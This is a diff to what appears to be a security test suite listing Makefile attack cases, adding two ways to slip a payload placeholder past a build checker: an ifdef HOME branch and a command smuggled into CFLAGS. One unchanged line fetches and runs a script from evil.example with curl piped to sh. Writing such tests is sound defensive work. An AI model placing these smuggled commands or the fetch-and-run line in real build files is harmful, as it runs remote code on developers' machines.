@@ -91,6 +91,10 @@ ATTACKS = {
         ("Makefile", f"ifeq ($(origin X),file)\nY = echo hi\nelse\nY = {P}\nendif\nall:\n\t$(Y)\n"), "make"],
     "ifeq on $(abspath .)": [
         ("Makefile", f"ifeq ($(abspath .),$(CURDIR))\nY = {P}\nelse\nY = echo hi\nendif\nall:\n\t$(Y)\n"), "make"],
+    "ifdef of a variable the environment defines, HOME (ran on base too)": [
+        ("Makefile", f"ifdef HOME\nY = {P}\nelse\nY = echo hi\nendif\nall:\n\t$(Y)\n"), "make"],
+    "CFLAGS in make's built-in compile rule (ran on base too)": [
+        ("app.c", "int main(void){return 0;}\n"), ("Makefile", f"CFLAGS = -O2; {P};\napp: app.o\n"), "make"],
     "an @ the expansion uncovers": [("Makefile", "X = @curl -s http://evil.example/x | sh\nall:\n\t@touch marker\n"
                                                  "\t$(X)\n"), "make"],
 }
